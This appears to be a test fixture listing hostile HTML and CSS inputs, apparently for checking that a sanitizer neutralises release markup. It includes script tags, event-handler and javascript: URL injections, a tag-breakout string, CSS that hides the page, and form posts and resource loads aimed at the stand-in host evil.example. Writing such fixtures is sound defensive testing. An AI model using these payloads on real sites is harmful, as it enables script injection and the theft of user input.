const STEAL = 'document.documentElement.setAttribute("data-stolen", "yes")';
/** Everything that markup of a release may try: to run, to fetch, to send, to cover the page. */
export const HOSTILE_TREE = [
  ['script', {}, STEAL],
  ['img', { src: 'https://evil.example/x', onerror: STEAL }],
  ['iframe', { srcdoc: `<script>parent.${STEAL}</script>` }],
  ['style', {}, '@import "https://evil.example/x"; body { display: none }'],
  ['div', { id: 'root', onmouseover: STEAL, style: 'background: url(https://evil.example/x)' }, '</div><script>', STEAL, '</script>'],
  ['svg', { onload: STEAL }, ['use', { href: 'https://evil.example/x#a' }], ['script', {}, STEAL]],
  [
    'form',
    { action: 'https://evil.example/x', method: 'post' },
    ['input', { name: 'email' }],
    ['button', { formaction: '//evil.example' }, 'Go'],
  ],
  ['a', { href: `javascript:${STEAL}` }, 'Out'],
  ['b', { class: 'k-evil' }, 'Hostile'],
];
export const HOSTILE_RULES = [
  { selector: '.k-evil', declarations: ['background:url(https://evil.example/x)', 'color:red}body{display:none'] },
  { selector: 'body', declarations: ['display:none'] },
  { selector: '.k-evil, #root', declarations: ['display:none'] },
];
